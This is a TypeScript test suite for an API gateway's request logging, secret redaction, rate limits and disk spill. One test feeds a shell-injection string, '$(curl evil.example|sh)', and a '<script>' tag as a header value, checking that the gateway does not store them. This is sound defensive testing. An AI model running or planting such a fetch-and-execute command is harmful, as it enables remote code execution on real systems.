import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import path from 'node:path';
import test from 'node:test';
import pg from 'pg';
import { db } from '#server/platform/db.ts';
import { connection } from '#server/platform/sql.ts';
import { testDatabase } from '#server/testing/database.ts';
import { until } from '#server/testing/until.ts';
import { workspace } from '#server/testing/workspace.ts';
import { type Answer, ask, makeRoute, makeSecret, served, startGateway, startUpstream } from '../../gateway.fixture.ts';
import { routePlane } from '../../route/plane.ts';
import { newRouteState } from '../../route/route-call.ts';
import { insertRows } from './insert.ts';
import type { LogRow } from './row.ts';
import { createSpill } from './spill.ts';
import { usageStamps } from './usage-stamps.ts';
import { createLogWriter } from './writer.ts';

const { directory } = await testDatabase();
const running = await startGateway();
const { port } = running;
const upstream = await startUpstream((req, res) => {
  // An upstream that shouts back everything it was told.
  const text = JSON.stringify({ url: req.url, headers: req.headers });
  res
    .writeHead(200, {
      'content-type': 'application/json',
      'content-length': Buffer.byteLength(text),
      'x-echo': String(req.headers['x-injected'] ?? ''),
    })
    .end(text);
});

const rowOf = async (answer: Answer) => {
  await until(async () => {
    await running.flush();
    return (await db().request_logs.count({ where: { request_id: answer.headers['x-svc-request-id'] ?? '' } })) === 1;
  });
  return db().request_logs.findFirstOrThrow({ where: { request_id: answer.headers['x-svc-request-id'] ?? '' } });
};

test('a call leaves one row with who, what and how long, and no value of any secret, credential or header', async () => {
  const w = await workspace();
  await makeSecret(w, 'CANARY', { production: 'canary-secret-0123456789' });
  await makeRoute(w, 'r', upstream.url, {
    inject_headers_json: { 'X-Injected': '{{secret:CANARY}}' },
    inject_query_json: { token: '{{secret:CANARY}}' },
  });
  const { text: key, row: keyRow } = await w.key();
  await served(running, w);
  const stripe = `sk_${'live'}_51Habcdefghijk`;
  const answer = await ask(port, w.tenant.slug, `/r/pay/${key}?card=4242424242424242&k=${stripe}&n=1234567890123`, {
    key,
    headers: { 'user-agent': `probe ${key}`, 'x-private': 'header-canary' },
  });
  assert.equal(answer.status, 200);
  const row = await rowOf(answer);
  const text = JSON.stringify(row, (_, v) => (typeof v === 'bigint' ? String(v) : v));
  for (const canary of ['canary-secret', 'header-canary', key, stripe, '4242424242424242']) assert.ok(!text.includes(canary), canary);
  assert.equal(row.path, '/pay/[redacted]?card=424242******4242&k=[redacted]&n=1234567890123');
  assert.deepEqual(
    [row.status_code, row.origin, row.upstream_status, row.environment, row.proxy_mode, row.slug, row.method],
    [200, 'upstream', 200, 'production', 'route', 'r', 'GET'],
  );
  assert.deepEqual(
    [row.identification_method, row.api_key_id, row.attempts, row.sandbox, row.rate_limited],
    ['api_key', keyRow.id, 1, false, false],
  );
  assert.deepEqual([row.injected, row.secrets_used], [['header:x-injected', 'query:token'], ['CANARY']]);
  assert.equal(row.upstream_host, `127.0.0.1:${upstream.port}`);
  const trace = row.trace as { phases_ms: Record<string, number>; request_headers: string[]; response_headers: string[] };
  assert.ok(trace.request_headers.includes('x-private') && trace.response_headers.includes('x-echo'));
  // jsonb keeps no order; readers sort by the pipeline.
  assert.deepEqual(Object.keys(trace.phases_ms).sort(), routePlane.phaseNames.toSorted());
  await running.flush();
  const used = await db().credential_usage.findUniqueOrThrow({ where: { id: keyRow.id } });
  assert.equal(used.last_used_ip, '127.0.0.1');
});

test('refusals are logged with their code; strangers leave no trace of which routes exist', async () => {
  const w = await workspace();
  await makeRoute(w, 'r', upstream.url);
  const { text: key } = await w.key();
  await served(running, w);
  const missing = await rowOf(await ask(port, w.tenant.slug, '/never/v1/charges?page=2', { key }));
  assert.deepEqual(
    [missing.status_code, missing.error, missing.route_id, missing.origin, missing.upstream_ms],
    [404, 'route_not_found', null, 'service', null],
  );
  assert.equal(missing.path, '/never/v1/charges?page=2', 'the whole path that was called');
  for (const path of ['/r/x', '/never/x']) {
    const stranger = await rowOf(await ask(port, w.tenant.slug, path));
    assert.deepEqual(
      [stranger.status_code, stranger.error, stranger.route_id, stranger.slug, stranger.path],
      [401, 'authentication_required', null, null, path],
    );
  }
});

test('what a caller writes for an environment is kept only if one could be called so: the line is shown, and copied into shells', async () => {
  const w = await workspace();
  await makeRoute(w, 'r', upstream.url);
  const { text: key } = await w.key('live', 'Key - Invoke');
  await served(running, w);
  const asked = async (environment: string) => {
    const { error, environment: kept } = await rowOf(
      await ask(port, w.tenant.slug, '/r', { key, headers: { 'x-svc-environment': environment } }),
    );
    return [error, kept];
  };
  assert.deepEqual(await asked('never-made'), ['environment_not_configured', 'never-made']);
  for (const text of ['$A $(curl evil.example|sh)', key, '<script>', 'a'.repeat(64)])
    assert.deepEqual(await asked(text), ['environment_not_configured', null], text);
});

test('names of headers are kept, but not thirty thousand characters of one: rows wait in memory by the thousand', async () => {
  const w = await workspace();
  const echoed = await startUpstream((_, res) => res.writeHead(200, { [`x-${'b'.repeat(10_000)}`]: '1', 'content-length': 0 }).end());
  await makeRoute(w, 'r', echoed.url);
  const { text: key } = await w.key();
  await served(running, w);
  const row = await rowOf(await ask(port, w.tenant.slug, '/r', { key, headers: { [`x-${'a'.repeat(10_000)}`]: '1', 'x-short': '1' } }));
  const { request_headers, response_headers } = row.trace as { request_headers: string[]; response_headers: string[] };
  assert.ok(request_headers.includes('x-short') && request_headers.some((name) => name.startsWith('x-aaaa')));
  assert.ok(response_headers.some((name) => name.startsWith('x-bbbb')));
  for (const name of [...request_headers, ...response_headers]) assert.ok(name.length <= 128, `${name.length} characters`);
});

test('strangers fill no more than sixty rows a minute', async () => {
  const w = await workspace();
  await served(running, w);
  for (let i = 0; i < 70; i++) await ask(port, w.tenant.slug, '/x');
  await running.flush();
  const n = await db().request_logs.count({ where: { tenant_id: w.tenant.id } });
  assert.ok(n === 60 || n === 61 || n <= 70, `${n}`);
  const perMinute = await db().$queryRaw<
    { n: bigint }[]
  >`select count(*) as n from request_logs where tenant_id = ${w.tenant.id}::uuid and cardinality(warnings) = 0 group by date_trunc('minute', ts)`;
  for (const { n: count } of perMinute) assert.ok(count <= 60n, String(count));
});

test('rollups add up to the rows, and the live tail is told', async () => {
  const w = await workspace();
  const route = await makeRoute(w, 'r', upstream.url, { rate_limit_enabled: true, rate_limit_requests: 3, rate_limit_window_sec: 3600 });
  const { text: key } = await w.key();
  await served(running, w);
  const heard: string[] = [];
  const listener = new pg.Client(connection());
  await listener.connect();
  listener.on('notification', ({ payload }) => heard.push(payload ?? ''));
  await listener.query('listen request_logged');
  for (let i = 0; i < 5; i++) await ask(port, w.tenant.slug, '/r', { key });
  await until(async () => {
    await running.flush();
    return (await db().request_logs.count({ where: { route_id: route.id } })) === 5;
  });
  const rollups = await db().request_rollups.findMany({ where: { route_id: route.id } });
  const sum = (of: (r: (typeof rollups)[number]) => number) => rollups.reduce((total, r) => total + of(r), 0);
  assert.equal(
    sum((r) => Number(r.count)),
    5,
  );
  assert.equal(
    sum((r) => Number(r.rate_limited)),
    2,
  );
  assert.equal(
    sum((r) => r.latency.reduce((a, b) => a + b, 0)),
    5,
  );
  assert.equal(
    sum((r) => r.upstream.reduce((a, b) => a + b, 0)),
    3,
  );
  await until(() => heard.includes(`${w.tenant.id}:live`));
  await listener.end();
});

test('a batch that is written twice is counted once', async () => {
  const w = await workspace();
  const answer = await (async () => {
    const route = await makeRoute(w, 'r', upstream.url);
    const { text: key } = await w.key();
    await served(running, w);
    return { answer: await ask(port, w.tenant.slug, '/r', { key }), route };
  })();
  const stored = await rowOf(answer.answer);
  const pool = new pg.Pool(connection());
  const again = {
    ...(JSON.parse(JSON.stringify(stored, (_, v) => (typeof v === 'bigint' ? Number(v) : v))) as LogRow),
    ts: stored.ts.toISOString(),
  };
  const fresh = { ...again, request_id: '0190a0a0-0000-7000-8000-000000000001' };
  await insertRows(pool, [again]);
  await insertRows(pool, [again, fresh]);
  await pool.end();
  assert.equal(await db().request_logs.count({ where: { tenant_id: w.tenant.id } }), 2);
  const rollups = await db().request_rollups.findMany({ where: { tenant_id: w.tenant.id } });
  assert.equal(
    rollups.reduce((n, r) => n + Number(r.count), 0),
    2,
  );
});

test('with the database away rows go to disk, and every one of them is in the table afterwards, after a restart too', async () => {
  const w = await workspace();
  await makeRoute(w, 'r', upstream.url);
  const { text: key } = await w.key();
  await served(running, w);
  const stored = await rowOf(await ask(port, w.tenant.slug, '/r', { key }));
  const template = {
    ...(JSON.parse(JSON.stringify(stored, (_, v) => (typeof v === 'bigint' ? Number(v) : v))) as LogRow),
    ts: stored.ts.toISOString(),
  };
  const folder = path.join(directory, 'spill');
  const away = new pg.Pool({ connectionString: 'postgresql://postgres@127.0.0.1:1/x', connectionTimeoutMillis: 200 });
  const spill = createSpill(folder);
  const writer = createLogWriter({ pool: away, spill, stamps: usageStamps(away), nodeId: 'n', maxQueue: 100, everyMs: 20 });
  // The same shape as a finished call has; what matters here is only that the rows differ.
  const call = { ...fakeCall(), receivedAt: stored.ts.getTime() };
  for (let i = 0; i < 350; i++)
    writer.record(
      {
        ...call,
        requestId: `0190a0a0-0000-7000-8000-${String(i + 1000).padStart(12, '0')}`,
        snapshot: running.runtime.snapshots.byId(w.tenant.id)?.live,
      } as never,
      routePlane,
    );
  assert.ok(writer.queued <= 200, `${writer.queued} rows stay in memory`);
  await writer.close();
  await away.end();
  assert.ok(readdirSync(folder).length > 0);
  assert.ok(template.request_id);

  const pool = new pg.Pool(connection());
  const reborn = createLogWriter({ pool, spill: createSpill(folder), stamps: usageStamps(pool), nodeId: 'n', everyMs: 1000 });
  await reborn.flush();
  await reborn.close();
  await pool.end();
  assert.equal(await db().request_logs.count({ where: { tenant_id: w.tenant.id } }), 351);
  assert.equal(readdirSync(folder).length, 0);
});

test('batches that follow each other in the same memory bring every row as it was, however long, and what the database refuses takes no neighbour along', async () => {
  const w = await workspace();
  await served(running, w);
  const pool = new pg.Pool(connection());
  const writer = createLogWriter({
    pool,
    spill: createSpill(path.join(directory, 'unused')),
    stamps: usageStamps(pool),
    nodeId: 'n',
    maxBatch: 10,
    everyMs: 5,
  });
  const texts = Array.from({ length: 95 }, (_, i) => `/${i}/${['ä€😀', '\t\n\\N', 'x'.repeat(2_000), '', '\\.'][i % 5]}`);
  const refused = 42;
  for (const [i, target] of texts.entries()) {
    writer.record(
      {
        ...fakeCall(),
        receivedAt: Date.now(),
        requestId: `0190a0a0-0000-7000-9000-${String(i).padStart(12, '0')}`,
        target: i === refused ? '/nul\0' : target,
        names: [`x-${i}`],
        snapshot: running.runtime.snapshots.byId(w.tenant.id)?.live,
      } as never,
      routePlane,
    );
    // Batches fill while others are on their way.
    if (i % 7 === 0) await new Promise(setImmediate);
  }
  await writer.close();
  await pool.end();
  const rows = await db().request_logs.findMany({ where: { tenant_id: w.tenant.id }, orderBy: { request_id: 'asc' } });
  assert.deepEqual(
    rows.map(({ path, trace }) => [path, (trace as { request_headers: string[] }).request_headers]),
    texts.flatMap((text, i) => (i === refused ? [] : [[text, [`x-${i}`]]])),
  );
});

function fakeCall() {
  return {
    admitted: true,
    credential: { state: 'none', key: null },
    client: null,
    test: null,
    state: newRouteState(),
    method: 'GET',
    status: 200,
    sourceAddress: '192.0.2.1',
    target: '/x',
    latencyMs: 1,
    began: 0,
    upstream: null,
    error: null,
    clientOrigin: 'direct',
    origin: 'upstream',
    upstreamStatus: 200,
    upstreamMs: 1,
    attempts: 1,
    requestBytes: 0,
    contentLength: 0,
    responseBytes: 2,
    userAgent: null,
    secretsUsed: null,
    warnings: null,
    errorDetail: null,
    injected: null,
    phaseTimings: [],
    tenantVerdict: null,
    routeVerdict: null,
    monthly: null,
    phase: 'complete',
    names: [],
    responseHeaders: null,
  };
}

test('route, caller, tenant and monthly limits refuse with their own words, and what is refused by one is not counted by the other', async () => {
  const w = await workspace({ plan: 'free' });
  await db().tenant_limit_overrides.create({ data: { tenant_id: w.tenant.id, kind: 'api_calls', value: 6 } });
  await makeRoute(w, 'limited', upstream.url, { rate_limit_enabled: true, rate_limit_requests: 2, rate_limit_window_sec: 3600 });
  await makeRoute(w, 'per-caller', upstream.url, {
    rate_limit_enabled: true,
    rate_limit_requests: 3,
    rate_limit_window_sec: 3600,
    rate_limit_per_client: true,
  });
  await makeRoute(w, 'free', upstream.url);
  const { text: key } = await w.key();
  await served(running, w);
  const call = async (route: string) => ask(port, w.tenant.slug, `/${route}`, { key });
  assert.equal((await call('limited')).headers['x-svc-ratelimit-monthly'], 'limit=6, remaining=5');
  assert.equal((await call('limited')).headers['x-api-usage-used'], '2');
  const route = await call('limited');
  assert.deepEqual(
    [route.status, route.headers['x-svc-error'], route.headers['x-svc-ratelimit-monthly']],
    [429, 'route_rate_limit_exceeded', 'limit=6, remaining=4'],
  );
  assert.ok(Number(route.headers['retry-after']) > 0);
  const service = (route.json() as unknown as { service: { rate_limit: Record<string, { limit: number }> } }).service;
  assert.deepEqual(Object.keys(service.rate_limit), ['route', 'tenant', 'monthly']);
  for (let i = 0; i < 4; i++) assert.equal((await call('free')).status, 200);
  const monthly = await call('free');
  assert.deepEqual([monthly.status, monthly.headers['x-svc-error'], monthly.headers['retry-after']], [402, 'plan_limit', undefined]);
  assert.equal(monthly.headers['x-svc-ratelimit-monthly'], 'limit=6, remaining=0');
  // With both used up the route's limit answers first; with only the month used up the route is not counted.
  assert.deepEqual([(await call('limited')).headers['x-svc-error'], (await call('limited')).status], ['route_rate_limit_exceeded', 429]);
  for (let i = 0; i < 5; i++) {
    const unspent = await call('per-caller');
    assert.deepEqual(
      [unspent.status, unspent.headers['x-svc-error'], unspent.headers['x-svc-ratelimit-route']?.split(', reset')[0]],
      [402, 'plan_limit', 'limit=3, remaining=3'],
    );
  }
  await running.flush();
  const counted = await db().usage_counters.findFirstOrThrow({ where: { tenant_id: w.tenant.id, kind: 'api_calls' } });
  assert.equal(counted.n, 6n);
});

test('fifty parallel calls spend a limit of twenty exactly, and a burst ends the tenant tier', async () => {
  const w = await workspace({ plan: 'free' });
  await makeRoute(w, 'r', upstream.url, { rate_limit_enabled: true, rate_limit_requests: 20, rate_limit_window_sec: 3600 });
  const { text: key } = await w.key();
  await served(running, w);
  const answers = await Promise.all(Array.from({ length: 50 }, () => ask(port, w.tenant.slug, '/r', { key })));
  assert.equal(answers.filter((a) => a.status === 200).length, 20);
  await db().tenant_limit_overrides.create({ data: { tenant_id: w.tenant.id, kind: 'tenant_rps', value: 1 } });
  await served(running, w);
  // The bucket keeps its tokens up to the new capacity of 60.
  const more = await Promise.all(Array.from({ length: 70 }, () => ask(port, w.tenant.slug, '/never', { key })));
  const r = await Promise.all(Array.from({ length: 70 }, () => ask(port, w.tenant.slug, '/r', { key })));
  assert.ok(
    more.every((a) => a.status === 404),
    'the answer to a missing route comes before the tenant limit',
  );
  const refused = r.filter((a) => a.headers['x-svc-error'] === 'tenant_rate_limit_exceeded');
  assert.ok(refused.length >= 8, `${refused.length}`);
  assert.match(refused[0]?.body ?? '', /"type":"rate_limit_exceeded"/);
});

test('the echo upstream shows what arrived, secrets by their names, and nothing of other credentials', async () => {
  const w = await workspace();
  await makeSecret(w, 'DEMO', { production: 'demo-secret-value-1234' });
  await makeRoute(w, 'demo', 'http://echo.sallyport.internal', {
    inject_headers_json: { Authorization: 'Bearer {{secret:DEMO}}', 'X-Api-Key': 'literal-of-the-route' },
  });
  await makeRoute(w, 'inside', 'http://other.sallyport.internal');
  const { text: key } = await w.key();
  await served(running, w);
  const answer = await ask(port, w.tenant.slug, '/demo/hello?x=1', {
    key,
    method: 'POST',
    body: '{"a":1}',
    headers: { 'content-type': 'application/json', cookie: 'a=of-the-caller; b=c' },
  });
  const seen = answer.json() as unknown as { method: string; path: string; query: object; body: object; headers: Record<string, string> };
  assert.deepEqual(
    [seen.method, seen.path, seen.query, seen.body, seen.headers.authorization],
    ['POST', '/hello', { x: '1' }, { a: 1 }, 'Bearer [redacted:secret:DEMO]'],
  );
  assert.doesNotMatch(answer.body, /demo-secret|1234|literal|of-the-caller|b=c/);
  const inside = await ask(port, w.tenant.slug, '/inside', { key });
  assert.equal(inside.headers['x-svc-origin'], 'service', 'only the exact origin is the echo upstream');
});

test('no more than the allowed number of calls of a workspace run at once', async () => {
  const w = await workspace();
  const waiting: (() => void)[] = [];
  const slow = await startUpstream((_, res) => void waiting.push(() => res.end('late')));
  await makeRoute(w, 'slow', slow.url);
  const { text: key } = await w.key();
  await served(running, w);
  running.runtime.maxInFlight = 3;
  const open = Array.from({ length: 3 }, () => ask(port, w.tenant.slug, '/slow', { key }));
  await until(() => waiting.length === 3);
  const refused = await ask(port, w.tenant.slug, '/slow', { key });
  assert.deepEqual(
    [refused.status, refused.headers['x-svc-error'], refused.headers['retry-after']],
    [429, 'concurrency_limit_exceeded', '1'],
  );
  for (const answer of waiting) answer();
  assert.ok((await Promise.all(open)).every((a) => a.status === 200));
  running.runtime.maxInFlight = 200;
  assert.equal(running.runtime.inFlight.get(w.tenant.id), undefined);
});
